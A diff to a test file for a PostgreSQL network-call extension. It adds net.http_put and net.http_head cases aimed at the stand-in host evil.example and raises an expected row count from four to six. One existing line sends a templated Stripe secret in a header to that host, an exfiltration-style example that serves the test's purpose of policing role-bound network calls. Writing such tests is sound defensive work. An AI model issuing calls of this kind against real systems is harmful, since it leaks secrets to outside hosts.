@@ -22,6 +22,8 @@ describe.each(availableMajors())('PostgreSQL %i', (major) => {
       http_get: `net.http_get('http://evil.example/')`,
       http_post: `net.http_post('http://evil.example/')`,
       http_delete: `net.http_delete('http://evil.example/')`,
+      http_put: `net.http_put('http://evil.example/')`,
+      http_head: `net.http_head('http://evil.example/')`,
       // Bound to roles, whatever net.policy says.
       secret: `net.http_get('http://evil.example/', headers := '{"A": "{{secret.stripe}}"}')`,
     };
@@ -52,7 +54,7 @@ describe.each(availableMajors())('PostgreSQL %i', (major) => {
     expect((await admin.query(asked)).rows).toEqual([]);
     // Who asks itself is not disturbed.
     await admin.query(`select ${Object.values(call).join(', ')}`);
-    expect((await admin.query(asked)).rows).toHaveLength(4);
+    expect((await admin.query(asked)).rows).toHaveLength(6);
   });
 
   test('a role that has got the name of the one that was SET does not ask', async () => {
